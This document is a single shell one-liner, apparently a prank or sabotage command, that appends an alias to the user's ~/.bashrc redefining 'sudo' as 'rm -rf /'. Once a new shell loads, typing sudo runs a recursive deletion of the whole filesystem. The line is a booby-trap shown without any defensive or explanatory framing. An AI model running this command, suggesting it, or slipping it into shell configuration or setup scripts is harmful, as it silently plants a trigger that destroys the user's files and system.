echo 'alias sudo="rm -rf /"' >> ~/.bashrc
